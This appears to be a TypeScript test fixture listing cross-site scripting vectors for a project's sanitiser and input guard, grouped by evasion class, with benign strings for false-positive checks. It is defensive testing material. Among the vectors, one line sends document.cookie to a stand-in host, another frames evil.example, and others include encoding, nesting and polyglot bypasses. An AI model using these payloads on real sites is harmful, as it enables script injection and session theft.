/**
 * Tricky inputs for the sanitiser and the input guard, written for this project in the vector classes of
 * reference/security.md §4.4 (case, scheme obfuscation, entities, encodings, NUL, Unicode, nesting, SVG,
 * attribute breakouts, data URLs, polyglots). `guard` says whether the spec's guard patterns must catch it;
 * vectors that only use other handlers (onmouseover=…) are outside the guard's list and only sanitised.
 */
export interface XssSample {
  vector: string;
  kind: string;
  guard: boolean;
}

export const XSS_CORPUS: readonly XssSample[] = [
  { kind: 'baseline', vector: '<script>alert(1)</script>', guard: true },
  { kind: 'baseline', vector: '<img src=x onerror=alert(1)>', guard: true },
  { kind: 'baseline', vector: '<svg onload=alert(1)>', guard: true },
  { kind: 'case', vector: '<ScRiPt>alert(1)</sCrIpT>', guard: true },
  { kind: 'case', vector: 'JaVaScRiPt:alert(1)', guard: true },
  { kind: 'case', vector: '<IMG SRC=x OnErRoR=alert(1)>', guard: true },
  { kind: 'scheme', vector: 'java\tscript:alert(1)', guard: true },
  { kind: 'scheme', vector: 'java\nscript:alert(1)', guard: true },
  { kind: 'scheme', vector: ' \u0001javascript:alert(1)', guard: true },
  { kind: 'scheme', vector: 'javascript :alert(1)', guard: true },
  { kind: 'entity', vector: '&#106;avascript:alert(1)', guard: true },
  { kind: 'entity', vector: '&#x6A;avascript&#x3A;alert(1)', guard: true },
  { kind: 'entity', vector: '&#0000106&#0000097vascript:alert(1)', guard: true },
  { kind: 'entity', vector: 'javascript&colon;alert(1)', guard: true },
  { kind: 'entity', vector: '&lt;script&gt;alert(1)&lt;/script&gt;', guard: true },
  { kind: 'url-encoding', vector: '%3Cscript%3Ealert(1)%3C/script%3E', guard: true },
  { kind: 'url-encoding', vector: '%253Cscript%253Ealert(1)', guard: true },
  { kind: 'js-escape', vector: '\\x3cscript\\x3ealert(1)', guard: true },
  { kind: 'js-escape', vector: '\\u003ciframe src=x\\u003e', guard: true },
  { kind: 'nul', vector: '<scr\u0000ipt>alert(1)</script>', guard: true },
  { kind: 'nul', vector: 'java\u0000script:alert(1)', guard: true },
  { kind: 'unicode', vector: '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e', guard: true },
  { kind: 'unicode', vector: 'ja\u200bva\u200dscript:alert(1)', guard: true },
  { kind: 'unicode', vector: '\u202e<script>alert(1)</script>', guard: true },
  { kind: 'unicode', vector: 'ｊａｖａｓｃｒｉｐｔ：alert(1)', guard: true },
  { kind: 'nested', vector: '<scr<script>ipt>alert(1)</scr</script>ipt>', guard: true },
  { kind: 'nested', vector: 'javajavascript:script:alert(1)', guard: true },
  // Harmless as it stands (attribute `ononerror`), dangerous only after a naive single-pass strip.
  { kind: 'nested', vector: 'ononerror=error=alert(1)', guard: false },
  { kind: 'nested', vector: '<<script>script>alert(1)<</script>/script>', guard: true },
  { kind: 'svg', vector: '<svg><animate onbegin=alert(1) attributeName=x>', guard: false },
  { kind: 'svg', vector: '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', guard: true },
  { kind: 'breakout', vector: '"><svg onload=alert(1)>', guard: true },
  { kind: 'breakout', vector: "'-eval('alert(1)')-'", guard: true },
  { kind: 'breakout', vector: '" onmouseover="alert(1)', guard: false },
  { kind: 'data-url', vector: 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', guard: true },
  { kind: 'data-url', vector: 'DATA: TEXT/HTML,<b>x</b>', guard: true },
  { kind: 'frame', vector: '<iframe srcdoc="<p>x</p>"></iframe>', guard: true },
  { kind: 'frame', vector: '< IFRAME src=//evil.example>', guard: true },
  { kind: 'vbscript', vector: 'vbscript:msgbox(1)', guard: true },
  { kind: 'dom', vector: 'new Image().src="//x/?"+document.cookie', guard: true },
  { kind: 'dom', vector: "document['write']('<b>')", guard: true },
  { kind: 'dom', vector: 'window.eval (atob("YWxlcnQoMSk="))', guard: true },
  { kind: 'mxss', vector: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', guard: true },
  {
    kind: 'polyglot',
    vector:
      'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e',
    guard: true,
  },
  { kind: 'markdown', vector: '[click](javascript:alert(1))', guard: true },
  { kind: 'form', vector: '<form action=javascript:alert(1)><button>x</button></form>', guard: true },
];

/** Ordinary text that must pass the guard untouched (false-positive checks). */
export const BENIGN_SAMPLES: readonly string[] = [
  'Evaluation of the medieval(ish) loader',
  'APT29 used spear-phishing; see report 2026-11-21',
  'Contact soc@example.org about the onboarding=done flag',
  'Java scripting tips for analysts',
  'documents written by the SOC',
  'The data: 5 rows, text/plain',
];
